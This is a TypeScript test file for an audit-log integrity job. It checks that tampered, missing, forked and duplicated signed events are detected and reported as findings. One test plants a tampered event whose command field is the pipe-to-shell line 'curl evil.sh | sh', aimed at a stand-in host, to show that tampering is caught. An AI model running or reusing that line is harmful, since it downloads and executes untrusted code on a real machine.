import { describe, expect, it, vi } from "vitest";
import { signLink } from "../../collect/sign";
import type { AuditEvent } from "../../schemas";
import { countEventsQuery, eventsByIdQuery, insertEvents } from "../../store/events";
import { makeEvent, makeEvents } from "../../test/factories/events";
import { EVENT_TYPES } from "../../schemas/vocab";
import { startIntegrityJob } from "./job";
import { readPosition } from "./positions";
import { findingsQuery, round, signedStream, useIntegrityFixture } from "./testing";

/**
 * The integrity job over the real embedded engine and a real signer: each
 * test signs its own stream, inserts it (intact, tampered, holed, forked,
 * duplicated), runs rounds and reads the findings table back.
 */
const fx = useIntegrityFixture();

describe("integrity job", () => {
  it("finds nothing in an intact signed stream of 100 events and verifies all of them", async () => {
    const { events } = await signedStream(fx, "web-01", 100);
    await insertEvents(fx.store, events.slice(0, 50));
    await insertEvents(fx.store, events.slice(50));
    const run = await round(fx);
    expect(run.collectors[0]).toMatchObject({ collectorId: "web-01", checked: 100, ok: 100, problems: [] });
    expect(await findingsQuery(fx.store, {})).toEqual([]);
    // A second round continues from the stored position: nothing new, nothing found.
    const again = await round(fx);
    expect(again.collectors[0]?.problems).toEqual([]);
    expect(await findingsQuery(fx.store, {})).toEqual([]);
  });

  it("flags one tampered field as a bad signature naming that event (high), never dropping it", async () => {
    const { events } = await signedStream(fx, "web-01", 100);
    const victim = events[37];
    if (victim === undefined) throw new Error("no event 37");
    await insertEvents(fx.store, events.map((e, i) => (i === 37 ? { ...e, actor_id: "mallory" } : e)));
    await round(fx);
    const findings = await findingsQuery(fx.store, {});
    expect(findings.find((f) => f.finding_id === "integrity:web-01:bad-signature:37")).toMatchObject({ severity: "high", status: "open", event_ids: [victim.event_id] });
    // The hole it leaves in the trusted chain is not reported as "missing" too: the event is there, untrusted.
    expect(findings.map((f) => f.finding_id)).toEqual(["integrity:web-01:bad-signature:37"]);
    // Flagged, not dropped or altered: the tampered event is in the table as it arrived.
    expect((await eventsByIdQuery(fx.store, { ids: [victim.event_id] })).map((e) => e.actor_id)).toEqual(["mallory"]);
    // ...but a hole with a truly missing event in it still is: tamper 10, drop 11.
    const other = (await signedStream(fx, "web-02", 20)).events;
    await insertEvents(fx.store, other.flatMap((e, i) => (i === 11 ? [] : i === 10 ? [{ ...e, actor_id: "mallory" }] : [e])));
    await round(fx);
    expect((await findingsQuery(fx.store, {})).filter((f) => f.finding_id.startsWith("integrity:web-02:")).map((f) => f.title)).toEqual([
      "bad signature at seq 10 from collector web-02 (event " + (other[10]?.event_id ?? "") + ")",
      "events 10..11 missing from collector web-02",
    ]);
  });

  it("reports dropped events 40–49 as one gap and resolves it when they arrive late", async () => {
    const { events } = await signedStream(fx, "web-01", 100);
    await insertEvents(fx.store, [...events.slice(0, 40), ...events.slice(50)]);
    await round(fx);
    expect(await findingsQuery(fx.store, {})).toMatchObject([
      { finding_id: "integrity:web-01:gap:40", severity: "medium", status: "open", title: "events 40..49 missing from collector web-01" },
    ]);
    await insertEvents(fx.store, events.slice(40, 45));
    await round(fx);
    // Half filled: the original finding is resolved, the rest is a new gap.
    expect(await findingsQuery(fx.store, {})).toMatchObject([
      { finding_id: "integrity:web-01:gap:40", status: "resolved" },
      { finding_id: "integrity:web-01:gap:45", status: "open", title: "events 45..49 missing from collector web-01" },
    ]);
    await insertEvents(fx.store, events.slice(45, 50));
    await round(fx);
    const findings = await findingsQuery(fx.store, {});
    expect(findings.map((f) => [f.finding_id, f.status])).toEqual([
      ["integrity:web-01:gap:40", "resolved"],
      ["integrity:web-01:gap:45", "resolved"],
    ]);
  });

  it("a duplicate insert of the same events is no finding", async () => {
    const { events } = await signedStream(fx, "web-01", 100);
    await insertEvents(fx.store, events);
    await round(fx);
    // Cut differently so the insert deduplication token does not drop it: real duplicate rows.
    await insertEvents(fx.store, events.slice(10, 30));
    await insertEvents(fx.store, events.slice(0, 1));
    // The oracle's precondition: the duplicates really are extra rows (before any merge).
    const [counts] = await countEventsQuery(fx.store, {});
    expect(counts).toEqual({ events: 100, rows: 121 });
    const run = await round(fx);
    expect(run.collectors[0]?.problems).toEqual([]);
    expect(await findingsQuery(fx.store, {})).toEqual([]);
  });

  it("flags two different signed events at one seq as a fork (critical), in the same batch and arriving later", async () => {
    const { signer, events } = await signedStream(fx, "web-01", 100);
    const e20 = events[20];
    const e60 = events[60];
    if (e20 === undefined || e60 === undefined) throw new Error("missing events");
    const forged = (at: AuditEvent) => {
      const other = makeEvents(1, { host: "web-01", collector_id: "web-01" })[0];
      if (other === undefined) throw new Error("no event");
      return signLink(other, at.seq ?? 0, at.prev_hash ?? "", signer.keys.privateKey);
    };
    const fork20 = forged(e20);
    await insertEvents(fx.store, [...events, fork20]);
    await round(fx);
    const fork60 = forged(e60);
    await insertEvents(fx.store, [fork60]);
    await round(fx);
    const forks = (await findingsQuery(fx.store, {})).filter((f) => f.finding_id.includes(":fork:"));
    expect(forks.map((f) => f.finding_id)).toEqual(["integrity:web-01:fork:20", "integrity:web-01:fork:60"]);
    expect(forks.every((f) => f.severity === "critical")).toBe(true);
    expect(forks[1]?.event_ids.sort()).toEqual([e60.event_id, fork60.event_id].sort());
  });

  it("verifies a stream longer than one batch over several rounds, position carried between them", async () => {
    const { events } = await signedStream(fx, "web-01", 250);
    await insertEvents(fx.store, events);
    const job = startIntegrityJob({ store: fx.store, intervalMs: 0, lagMs: 0, batch: 100 });
    try {
      const rounds = [];
      for (let i = 0; i < 4; i++) rounds.push((await job.runOnce()).collectors[0]);
      expect(rounds.map((r) => [r?.checked, r?.more])).toEqual([
        [100, true],
        [100, true],
        [50, false],
        [0, false],
      ]);
    } finally {
      await job.stop();
    }
    expect(await findingsQuery(fx.store, {})).toEqual([]);
  });

  it("two workers verifying the same stream at once write each finding once", async () => {
    const { events } = await signedStream(fx, "web-01", 100);
    await insertEvents(fx.store, [...events.slice(0, 10), ...events.slice(20, 70), ...events.slice(71)]);
    const a = startIntegrityJob({ store: fx.store, intervalMs: 0, lagMs: 0 });
    const b = startIntegrityJob({ store: fx.store, intervalMs: 0, lagMs: 0 });
    try {
      await Promise.all([a.runOnce(), b.runOnce()]);
    } finally {
      await Promise.all([a.stop(), b.stop()]);
    }
    expect((await findingsQuery(fx.store, {})).map((f) => f.title)).toEqual(["events 10..19 missing from collector web-01", "events 70..70 missing from collector web-01"]);
  });

  it("flags a tampered copy of an already verified event planted beside it in the table (same event_id)", async () => {
    const { events } = await signedStream(fx, "web-01", 30);
    await insertEvents(fx.store, events);
    await round(fx);
    const original = events[12];
    if (original === undefined) throw new Error("no event 12");
    // Same sort key (env, occurred_at, event_id): since 0011 the first received row wins (issue #9),
    // so a copy planted straight into the table changes nothing readers see.
    await insertEvents(fx.store, [{ ...original, command: "curl evil.sh | sh" }]);
    await fx.store.client.command({ query: `OPTIMIZE TABLE ${fx.store.tables.events} FINAL` });
    expect((await eventsByIdQuery(fx.store, { ids: [original.event_id] })).map((e) => e.command)).toEqual([original.command]);
    // Under another sort key it is a second visible row: the job flags it.
    await insertEvents(fx.store, [{ ...original, command: "curl evil.sh | sh", occurred_at: new Date(Date.parse(original.occurred_at) + 1).toISOString() }]);
    await round(fx);
    expect(await findingsQuery(fx.store, {})).toMatchObject([{ finding_id: "integrity:web-01:bad-signature:12", event_ids: [original.event_id] }]);
  });

  it("runs on its own on the interval (as in serve and ingest) until the stream is verified", async () => {
    const { events } = await signedStream(fx, "web-01", 250);
    await insertEvents(fx.store, events);
    const job = startIntegrityJob({ store: fx.store, intervalMs: 50, lagMs: 0, batch: 100 });
    try {
      await vi.waitFor(async () => expect((await readPosition(fx.store, "web-01")).nextSeq).toBe(250), { timeout: 20_000, interval: 100 });
    } finally {
      await job.stop();
    }
    expect(await findingsQuery(fx.store, {})).toEqual([]);
  });

  it("every event type survives the events table byte for byte: its signature verifies when read back", async () => {
    const { signer } = await signedStream(fx, "web-01", 0);
    const all = EVENT_TYPES.map((type) => makeEvent({ type, host: "web-01", ticket: "CHG-1", labels: { role: "web" }, attribution_confidence: 0.75 }));
    const events = await signer.append(all, async (signed) => signed);
    await insertEvents(fx.store, events);
    const run = await round(fx);
    expect(run.collectors[0]).toMatchObject({ checked: EVENT_TYPES.length, ok: EVENT_TYPES.length, problems: [] });
  });
});
